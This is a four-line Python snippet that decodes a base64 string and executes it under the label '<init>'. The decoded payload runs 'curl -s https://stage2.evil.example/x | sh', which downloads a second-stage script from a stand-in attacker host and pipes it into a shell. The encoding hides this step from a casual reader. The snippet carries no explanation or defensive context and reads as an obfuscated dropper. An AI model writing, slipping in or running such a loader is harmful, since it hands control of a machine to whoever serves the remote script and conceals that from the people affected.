import binascii
data = binascii.a2b_base64("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly9zdGFnZTIuZXZpbC5leGFtcGxlL3ggfCBzaCcp")
obj = compile(data, "<init>", "exec")
exec(obj)
